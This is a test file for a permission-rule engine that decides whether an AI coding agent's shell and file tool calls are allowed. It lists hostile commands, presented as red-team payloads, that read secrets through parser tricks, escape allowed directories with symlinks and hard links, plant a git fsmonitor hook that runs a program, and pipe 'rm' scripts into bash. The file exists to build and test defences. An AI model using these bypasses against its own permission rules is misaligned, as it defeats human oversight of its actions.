  it("seed 892716154: a redirection and the words after it, given by the parser to a list, belong to its last command", async () => {
    // tree-sitter-bash reads `unset </dev/null && eval 2>victim "…"` as `(unset && eval) 2>victim "…"`
    const command = "unset </dev/null && eval 2> victim 'cd sec'\"rets; cat k\""
    expect(inBash(command).output).toContain("SECRET")
    expect(await decideIn(DENYLIST.spec, command)).toBe("deny")
    expect(await decideIn(DENYLIST.spec, "unset </dev/null && eval 2>/dev/null 'rm victim'")).toBe("deny")
  })
  it("a Glob pattern with a backslash (an escape) is not known: deny rules match it, allow rules do not", async () => {
    const spec: Spec = { allow: ["Glob(./src/**)"], deny: ["Read(./secrets/**)"] }
    // the escape is read as the character it escapes, as bash's globs read it
    expect(inBash("echo secre\\ts/*").output.trim()).toBe("secrets/k")
    const box = sandbox()
    try {
      expect(await decide(spec, "Glob", { pattern: "secre\\ts/*" }, box.work)).toBe("deny")
      expect(await decide({ allow: ["Glob(./src/**)"] }, "Glob", { pattern: "s\\rc/*" }, box.work)).toBe("fallback")
      expect(await decide({ allow: ["Glob(./src/**)"] }, "Glob", { pattern: "src/*.ts" }, box.work)).toBe("allow")
    } finally {
      box.done()
    }
  })
  it("a `..` after a link: an allow rule must cover both the path's text and where the kernel goes", async () => {
    const box = sandbox()
    try {
      fs.mkdirSync(path.join(box.work, "src", "d1", "d2", "d3"), { recursive: true })
      fs.symlinkSync("d1/d2/d3", path.join(box.work, "src", "q"))
      // the kernel climbs from the link's target (src/d1/d2/d3 → src: src/outside/t, under the allowed tree); the
      // text climbs from src (→ root/outside/t, which exists)
      const written = "src/q/../../../outside/t"
      expect(fs.existsSync(path.resolve(box.work, written))).toBe(true)
      const spec: Spec = { allow: ["Read(./src/**)"] }
      expect(await decide(spec, "Read", { file_path: written }, box.work)).toBe("fallback")
      expect(await decide(spec, "Grep", { pattern: "x", path: "src/q/../../../outside" }, box.work)).toBe("fallback")
      expect(await decide(spec, "Read", { file_path: "src/q/../x.ts" }, box.work)).toBe("allow")
    } finally {
      box.done()
    }
  })
  it("file tools and hard links: a deny rule sees another name in its tree; an allow rule writes no file with two", async () => {
    const box = sandbox()
    try {
      fs.mkdirSync(path.join(box.work, "src"))
      fs.linkSync(path.join(box.work, "secrets", "k"), path.join(box.work, "src", "hl"))
      fs.linkSync(path.join(box.work, "secrets", "k"), path.join(box.work, "out", "hl"))
      // the file system is the judge: the names are one file
      expect(fs.readFileSync(path.join(box.work, "src", "hl"), "utf8")).toBe("SECRET\n")
      const read: Spec = { allow: ["Read"], deny: ["Read(./secrets/**)"] }
      expect(await decide(read, "Read", { file_path: "src/hl" }, box.work)).toBe("deny")
      expect(await decide(read, "Read", { file_path: "data.txt" }, box.work)).toBe("allow")
      const edit: Spec = { allow: ["Edit(./out/**)"], deny: ["Edit(./secrets/**)"] }
      for (const tool of ["Write", "Edit", "MultiEdit"]) {
        expect([tool, await decide(edit, tool, { file_path: "out/hl" }, box.work)]).toEqual([tool, "deny"])
      }
      expect(await decide(edit, "NotebookEdit", { notebook_path: "out/hl" }, box.work)).toBe("deny")
      expect(await decide({ allow: ["Edit(./out/**)"] }, "Write", { file_path: "out/hl" }, box.work)).toBe("fallback")
      expect(await decide({ allow: ["Edit(./out/**)"] }, "Write", { file_path: "out/new" }, box.work)).toBe("allow")
    } finally {
      box.done()
    }
  })
})

describe("issue 31: the seventh red team's classes (programs' own output files and directories)", () => {
  const spec: Spec = {
    allow: [
      "Bash(git status)",
      "Bash(git diff:*)",
      "Bash(npm test:*)",
      "Bash(npx tsc:*)",
      "Bash(cd:*)",
      "Bash(curl https://api.example.com/:*)",
      "Bash(kubectl get:*)",
      "Write(./out/**)"
    ]
  }
  const repo = path.resolve(import.meta.dirname, "..")
  const setup = (work: string) => {
    fs.symlinkSync(path.join(repo, "node_modules"), path.join(work, "node_modules"))
    fs.writeFileSync(path.join(work, "out", "a.ts"), "export const a = 1\n")
    // what earlier Write calls under Write(./out/**) may leave: a repository whose config runs a program
    fs.mkdirSync(path.join(work, "out", "g"))
    execFileSync("git", ["init", "-q"], { cwd: path.join(work, "out", "g") })
    execFileSync("git", ["config", "core.fsmonitor", "touch X; false"], { cwd: path.join(work, "out", "g") })
  }
  const payloads: ReadonlyArray<readonly [string, (run: ReturnType<typeof inBash>) => boolean]> = [
    ["curl https://api.example.com/ --stderr victim -sS --max-time 1", (run) => run.victim !== ""],
    ["npx tsc out/a.ts --declaration --emitDeclarationOnly --declarationDir .", (run) => run.exists("a.d.ts")],
    ["cd out/g && git status", (run) => run.exists("out/g/X")],
    ["cd out/g; git diff", (run) => run.exists("out/g/X")]
  ]
  it("each payload really writes outside out/ or runs a program no rule names in bash", () => {
    for (const [command, did] of payloads) expect([command, did(inBash(command, setup))]).toEqual([command, true])
  })
  for (const [command] of payloads) {
    it(`the rules do not allow ${JSON.stringify(command)}`, async () => {
      expect(await decideIn(spec, command, setup)).not.toBe("allow")
    })
  }
  it("the other write options and forms are judged too", async () => {
    for (
      const command of [
        "curl https://api.example.com/ -Dvictim",
        "curl https://api.example.com/ -c victim",
        "curl https://api.example.com/ --trace ../x",
        "curl https://api.example.com/ -O",
        "curl https://api.example.com/ --next file:///etc/hostname -o victim",
        "npx tsc --outDir ..",
        "npx tsc --build out",
        // a kubeconfig's exec plugin runs a program (kubectl is not on this machine: decided only)
        "kubectl get pods --kubeconfig out/kc",
        "cd out/p && npm test"
      ]
    ) {
      expect([command, await decideIn(spec, command, setup)]).toEqual([command, "fallback"])
    }
  })
  it("the everyday forms stay allowed", async () => {
    for (
      const command of [
        "git status",
        "npm test",
        "npx tsc --noEmit",
        "curl https://api.example.com/",
        "curl https://api.example.com/ -o out/x",
        "kubectl get pods",
        "cd out && ls"
      ]
    ) {
      expect([command, await decideIn({ ...spec, allow: [...spec.allow!, "Bash(ls:*)"] }, command, setup)]).toEqual([
        command,
        "allow"
      ])
    }
  })
})

describe("issue 36: links made in the same command, and hard links", () => {
  const writer = { allow: ["Bash(ln:*)", "Bash(echo:*)", "Bash(cp:*)", "Bash(mv:*)", "Bash(tar:*)", "Write(./out/**)"] }
  const linked = [
    "ln -s ../../outside out/l; echo x > out/l/t",
    "ln -s ../../outside out/l\necho x > out/l/t",
    "ln -s ../../outside out/l && echo x > out/l/t",
    "ln ../outside/t out/h; echo x > out/h",
    "cp -l ../outside/t out/h\necho x > out/h"
  ]
  it("each command really writes outside/t in bash", () => {
    for (const command of linked) expect([command, inBash(command).outside]).toEqual([command, "x\n"])
  })
  for (const command of [...linked, "cp -s /tmp/x out/t; echo x > out/t", "tar xf a.tar; echo x > out/l/t"]) {
    it(`${JSON.stringify(command)} falls to the fallback`, async () => {
      expect(await decideIn(writer, command)).toBe("fallback")
    })
  }
  it("a hard link already there to a file outside the allowed tree is not written through", async () => {
    const setup = (work: string, root: string) =>
      fs.linkSync(path.join(root, "outside", "t"), path.join(work, "out", "h"))
    expect(inBash("echo x > out/h", setup).outside).toBe("x\n")
    expect(await decideIn(writer, "echo x > out/h", setup)).toBe("fallback")
    expect(await decideIn(writer, "echo x > out/other", setup)).toBe("allow")
  })
  it("deny rules see through a hard link into the denied tree, and through links made in the command", async () => {
    const guarded = { allow: ["Bash"], deny: ["Read(./secrets/**)", "Write(./secrets/**)"] }
    const setup = (work: string) => fs.linkSync(path.join(work, "secrets", "k"), path.join(work, "out", "h"))
    expect(await decideIn(guarded, "cat out/h", setup)).toBe("deny")
    expect(await decideIn(guarded, "echo x > out/h", setup)).toBe("deny")
    expect(await decideIn(guarded, "ln -s ../secrets out/l; cat out/l/k")).toBe("deny")
    expect(await decideIn(guarded, "ln -s ../secrets out/l\necho x > out/l/k")).toBe("deny")
    // a hard link elsewhere (a package store) is not a reason to deny
    const elsewhere = (work: string) => fs.linkSync(path.join(work, "data.txt"), path.join(work, "out", "d"))
    expect(await decideIn(guarded, "cat out/d", elsewhere)).toBe("allow")
  })
})

describe("issue 36: the Bash tool starts every command in the session's directory", () => {
  it("a session with a permission handler sets CLAUDE_BASH_MAINTAIN_PROJECT_WORKING_DIR for the CLI", async () => {
    const withHandler = await Effect.runPromise(
      toLaunch({ env: { CLAUDE_BASH_MAINTAIN_PROJECT_WORKING_DIR: "0" } }, { permissionPromptStdio: true })
    )
    expect(withHandler.env["CLAUDE_BASH_MAINTAIN_PROJECT_WORKING_DIR"]).toBe("1")
    const without = await Effect.runPromise(toLaunch({}, {}))
    expect(without.env["CLAUDE_BASH_MAINTAIN_PROJECT_WORKING_DIR"]).toBeUndefined()
  })
})

describe("a shell given its script on its input", () => {
  const cases = [
    "source /dev/stdin <<< 'rm victim'",
    ". /dev/stdin <<< 'rm victim'",
    "bash <<< 'rm victim'",
    "sh <<EOF\nrm victim\nEOF",
    "bash -s <<'EOF'\nrm victim\nEOF",
    "echo 'rm victim' | bash",
    "printf '%s\\n' 'rm victim' | sh -s",
    "echo 'echo x > secrets/k' | bash"
  ]
  it("each payload really runs in bash", () => {
    for (const command of cases.slice(0, -1)) expect([command, inBash(command).victimGone]).toEqual([command, true])
    expect(inBash(cases.at(-1)!).secret).toBe("x\n")
  })
  for (const command of cases) {
    it(`deny rules see into ${JSON.stringify(command)}`, async () => {
      expect(await decideIn({ allow: ["Bash"], deny: ["Bash(rm:*)", "Write(./secrets/**)"] }, command)).toBe("deny")
    })
  }
})
